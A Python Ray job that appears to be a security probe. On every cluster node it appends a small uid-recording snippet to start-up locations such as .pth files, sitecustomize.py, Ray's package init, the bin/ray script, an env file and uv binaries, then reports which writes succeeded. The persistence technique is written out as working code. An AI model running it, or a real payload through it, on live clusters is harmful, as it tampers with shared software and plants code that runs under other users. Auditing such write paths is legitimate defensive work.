"""A job that tries to plant start-up code on every node, wherever the ray user might be able
to write it and something might run it later: the Ray environment (a .pth file, a
sitecustomize.py, an edited module, a script in bin/), the wheelhouse's uv, Ray's settings,
and the ray user's own home (its user site and working folder).

Each planted piece records the uid that ran it in /var/lib/ray/planted-ran. Prints, per
node, every target with "planted" or the error that stopped it, as one JSON line.
"""

import glob
import json
import os
import sys

import ray
from ray.util.scheduling_strategies import NodeAffinitySchedulingStrategy

RECORD = "/var/lib/ray/planted-ran"
PAYLOAD = f"import os; open({RECORD!r}, 'a').write(str(os.getuid()) + chr(10))\n"
HOME = "/var/lib/ray"
PY = f"{sys.version_info[0]}.{sys.version_info[1]}"


def targets() -> dict[str, str]:
    """path -> what to append there."""
    site = next(p for p in sys.path if p.endswith("site-packages"))
    found = {
        f"{site}/raykit_planted.pth": PAYLOAD,
        f"{site}/sitecustomize.py": PAYLOAD,
        f"{site}/ray/__init__.py": PAYLOAD,
        f"{sys.prefix}/bin/ray": "\n" + PAYLOAD,
        "/etc/ray/ray.env": "PYTHONSTARTUP=/var/lib/ray/sitecustomize.py\n",
        f"{HOME}/.local/lib/python{PY}/site-packages/raykit_planted.pth": PAYLOAD,
        f"{HOME}/sitecustomize.py": PAYLOAD,
    }
    found.update({uv: "\n" for uv in glob.glob("/opt/ray/wheelhouse/*/uv")})
    return found


@ray.remote(num_cpus=0)
def plant() -> dict[str, str]:
    outcome = {}
    for path, text in targets().items():
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "a") as fh:
                fh.write(text)
            outcome[path] = "planted"
        except OSError as exc:
            outcome[path] = f"{type(exc).__name__}: {exc.strerror}"
    return outcome


ray.init()
alive = [node for node in ray.nodes() if node["Alive"]]
refs = {
    node["NodeManagerAddress"]: plant.options(
        scheduling_strategy=NodeAffinitySchedulingStrategy(node["NodeID"], soft=False)
    ).remote()
    for node in alive
}
print("PLANTED " + json.dumps({ip: ray.get(ref) for ip, ref in refs.items()}))
